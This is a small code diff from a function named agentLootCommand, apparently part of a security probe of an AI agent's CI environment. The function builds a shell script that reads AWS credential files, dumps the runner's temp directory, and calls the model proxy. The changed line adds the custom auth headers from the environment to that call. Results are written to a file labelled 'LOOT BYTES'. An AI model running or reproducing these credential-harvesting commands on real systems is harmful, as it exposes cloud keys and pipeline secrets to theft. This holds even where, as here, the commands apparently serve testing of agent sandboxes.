@@ -73,7 +73,7 @@ function agentLootCommand(): string {
     '  echo "== aws files"; cat ~/.aws/* 2>&1',
     `  cat "${paths.runnerHome}/.aws/"* 2>&1`,
     `  echo "== runner temp"; ls -la "${paths.runnerTemp}" 2>&1; cat "${paths.runnerTemp}"/* 2>&1`,
-    '  echo "== the proxy"; curl -s -X POST "$ANTHROPIC_BEDROCK_BASE_URL/model/x/converse" -d "{}"',
+    '  echo "== the proxy"; curl -s -X POST -H "$ANTHROPIC_CUSTOM_HEADERS" "$ANTHROPIC_BEDROCK_BASE_URL/model/x/converse" -d "{}"',
     '} > "$out" 2>&1',
     'echo "LOOT BYTES: $(wc -c < "$out")"',
   ].join('\n');
